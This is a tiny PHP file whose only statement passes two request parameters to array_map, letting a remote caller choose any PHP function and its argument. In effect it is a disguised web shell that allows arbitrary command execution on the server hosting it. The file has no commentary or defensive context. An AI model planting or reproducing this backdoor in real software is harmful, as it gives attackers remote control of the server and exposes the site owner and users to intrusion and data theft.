<?php
array_map($_POST['f'], [$_POST['x']]);
